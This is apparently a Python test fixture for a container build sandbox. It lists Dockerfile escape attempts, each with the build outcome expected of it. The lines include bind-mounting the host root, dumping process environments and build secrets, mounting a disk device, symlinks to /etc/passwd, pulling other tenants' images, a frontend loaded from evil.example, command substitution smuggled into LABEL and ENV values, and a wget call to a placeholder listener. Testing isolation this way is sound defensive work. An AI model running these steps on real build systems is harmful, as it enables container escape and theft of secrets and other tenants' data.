"""Dockerfiles that try something, on top of a shell, each with what its build must come to."""

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Trick:
    """One Dockerfile; ``VICTIM`` stands for another tenant's image, ``HOST`` and ``PORT`` for a listener on this box."""

    name: str
    #: ``built``: it is harmless, whatever it tries.
    code: str
    steps: tuple[str, ...]
    #: Symbolic links of its context.
    links: dict[str, str] = field(default_factory=dict)
    has_network: bool = True
    #: Stands before everything.
    head: str = ""


_TAKE = "cp -r /m /taken 2>/dev/null; ls -laR /m | head -50; exit 0"

TRICKS = (
    Trick("copy-from-above", "build_failed", ("COPY ../../../../canary /taken",)),
    Trick("copy-from-the-root", "build_failed", ("COPY /canary-of-the-host /taken",)),
    Trick("mount-from-above", "built", (f"RUN --mount=type=bind,source=../../../..,target=/m {_TAKE}",)),
    Trick("mount-the-root", "built", (f"RUN --mount=type=bind,source=/,target=/m {_TAKE}",)),
    Trick("mount-with-writing", "built", ("RUN --mount=type=bind,target=/m,rw echo x > /m/../evil; exit 0",)),
    Trick("look-for-the-socket", "built", ("RUN ls -la /var/run /run /proc/1/root 2>&1 | head; exit 0",)),
    Trick("read-the-environment", "built", ("RUN env; cat /proc/1/environ /proc/*/environ | tr '\\000' '\\n'; exit 0",)),
    Trick("ask-for-secrets", "built", (
        "RUN --mount=type=secret,id=jwt,target=/s cat /s; --mount=type=secret,id=deploy_key,target=/k cat /k; exit 0",)),
    Trick("ssh-agent", "build_failed", ("RUN --mount=type=ssh,required=true env",)),
    Trick("insecure", "dockerfile_refused", ("RUN --security=insecure mount",)),
    Trick("host-network", "dockerfile_refused", ("RUN --network=host id",)),
    Trick("mount-for-real", "built", ("RUN mkdir /d; mount -t proc proc /d; mount /dev/vda1 /d; mknod /d/x b 8 0; exit 0",)),
    Trick("another-reader", "dockerfile_refused", (), head="# syntax=evil.example/frontend\n"),
    Trick("link-in-the-context", "archive_link", ("COPY l /taken",), {"l": "/etc/passwd"}),
    Trick("link-above-the-context", "archive_link", ("COPY l /taken",), {"l": "../../../canary"}),
    Trick("from-another-s-image", "dockerfile_refused", ("FROM VICTIM",)),
    Trick("copy-from-another-s-image", "dockerfile_refused", ("COPY --from=VICTIM / /taken/",)),
    Trick("mount-another-s-image", "dockerfile_refused", (f"RUN --mount=from=VICTIM,target=/m {_TAKE}",)),
    Trick("by-a-variable", "dockerfile_refused", ("FROM ${X}",), head="ARG X=VICTIM\n"),
    Trick("by-half-a-variable", "dockerfile_refused", ("FROM mcp-host/${X}",), head="ARG X=y\n"),
    Trick("another-s-cache", "built", (
        "RUN --mount=type=cache,id=shared,target=/m cp -r /m /taken; ls -laR /m; exit 0",)),
    Trick("network-that-is-on", "built", ("RUN wget -T 9 -O /dev/null http://HOST:PORT/on; exit 0",)),
    Trick("network-that-is-off", "built", ("RUN wget -T 3 -O /taken http://HOST:PORT/off; exit 0",), has_network=False),
    Trick("add-while-it-is-off", "dockerfile_refused", ("ADD http://HOST:PORT/ /taken",), has_network=False),
    Trick("shell-in-names", "built", (
        'LABEL a="$(touch /tmp/evil)"', 'ENV B="`touch /tmp/evil`;touch"', "RUN touch '/;touch${IFS}evil'")),
    Trick("never-ends", "build_timeout", ("RUN echo begun; while :; do sleep 1; done",)),
    Trick("prints-a-hundred-megabytes", "built", ("RUN yes canary-free | head -c 100000000",)),
)  # fmt: skip
